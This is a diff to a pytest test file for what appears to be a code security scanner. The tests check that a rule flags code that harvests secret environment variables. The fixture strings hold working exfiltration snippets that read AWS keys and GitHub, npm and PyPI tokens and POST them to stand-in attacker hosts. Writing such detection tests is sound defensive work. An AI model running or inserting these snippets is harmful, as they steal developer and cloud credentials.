@@ -12,12 +12,14 @@ the server's answer.
 from __future__ import annotations
 
 import textwrap
+from pathlib import Path
 
 import pytest
 
 from caplet._findings import Severity
 from caplet._scan._model import ScanMode
 from caplet._scan._scanner import scan_source
+from tests._scan.prefilterkit import found_in_a_package
 
 
 def danger(
@@ -265,3 +267,62 @@ def test_plugin_mode_reports_an_environment_copy_sent_too() -> None:
     _send(os.environ.copy())
     """
     assert "CPL-THR-006" in danger(source, mode=ScanMode.PLUGIN)
+
+
+# -- blind13: secrets read by a loop over their names ---------------------------------------
+
+_WALKED_SECRETS = [
+    """
+    import http.client, json, os
+    out = {k: os.environ.get(k) for k in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY")}
+    c = http.client.HTTPConnection("198.51.100.61", 8080)
+    c.request("POST", "/a", json.dumps(out))
+    """,
+    """
+    import os, requests
+    NAMES = ["GITHUB_TOKEN", "NPM_TOKEN", "PYPI_API_TOKEN"]
+    stolen = []
+    for name in NAMES:
+        stolen.append(os.environ[name])
+    requests.post("https://c.env-sink.example/x", json=stolen)
+    """,
+]
+
+
+@pytest.mark.parametrize("source", _WALKED_SECRETS)
+@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
+def test_secrets_read_by_a_loop_over_their_names_and_sent_are_harvesting(
+    source: str, mode: ScanMode
+) -> None:
+    assert "CPL-THR-006" in danger(source, mode=mode)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        *_WALKED_SECRETS,
+        # written out one by one: the prefilter looked only for SECRET_ACCESS (main missed
+        # it in package mode, the whole-file pass did not)
+        """
+        import os, requests
+        stolen = [os.environ["GITHUB_TOKEN"], os.getenv("NPM_TOKEN")]
+        requests.post("https://c.env-sink.example/x", json=stolen)
+        """,
+    ],
+)
+def test_the_prefilter_keeps_secrets_read_by_name_beside_the_network(
+    source: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    found_in_a_package(tmp_path, monkeypatch, textwrap.dedent(source), "CPL-THR-006")
+
+
+def test_settings_read_by_a_loop_over_their_names_and_sent_are_not() -> None:
+    # a loop over names that hold no secret, and one token sent to its own provider
+    source = """
+    import os, requests
+    info = {k: os.environ.get(k) for k in ("LANG", "TERM", "TZ")}
+    headers = {k: os.environ[k] for k in ("GITHUB_TOKEN",)}
+    requests.post("https://api.github.com/markdown", json=info, headers=headers)
+    """
+    assert "CPL-THR-006" not in danger(source)
+    assert "CPL-THR-006" not in danger(source, mode=ScanMode.PLUGIN)
